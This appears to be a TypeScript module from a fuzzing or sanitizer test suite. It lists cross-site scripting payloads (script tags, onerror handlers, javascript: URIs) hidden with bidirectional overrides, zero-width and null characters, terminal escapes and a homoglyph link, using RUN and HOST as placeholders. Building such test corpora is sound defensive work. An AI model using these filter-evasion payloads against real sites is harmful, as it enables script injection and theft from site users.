import { family } from "./payload";

const ESC = "\u001B";

/** Bidirectional, invisible, control and broken characters, among markup and by themselves. */
export const characters = family("characters", 1600, [
  "\u202E<img src=x onerror=RUN>\u202C",
  "\u2067<script>RUN</script>\u2066",
  "<\u200Bscript>RUN</script>",
  "<scr\u00ADipt>RUN</script>",
  "<\u0000script>RUN</script>",
  "<scr\u0000ipt>RUN</scr\u0000ipt>",
  "<img src=x onerror\u0000=RUN>",
  "<img\u000Csrc=x\u000Conerror=RUN>",
  "<img\u000Bsrc=x\u000Bonerror=RUN>",
  "<img\u00A0src=x onerror=RUN>",
  "<img\u0085src=x onerror=RUN>",
  "\uFEFF<script>RUN</script>",
  "\uD800<img src=x onerror=RUN>\uDC00",
  "<\u017Fcript>RUN</\u017Fcript>",
  "<\u{E0001}script\u{E007F}>RUN</script>",
  `${ESC}]8;;https:HOST${ESC}\\<img src=x onerror=RUN>${ESC}[0m`,
  "\u0008\u007F<img src=x onerror=RUN>",
  "<img src=x onerror=RUN\u2028>",
  "java\u200Bscript:RUN",
  "\u202Ejavascript:RUN",
  "https://\u0430rxiv.org/abs/2009.06732\u202E<b onclick=RUN>x</b>",
]);
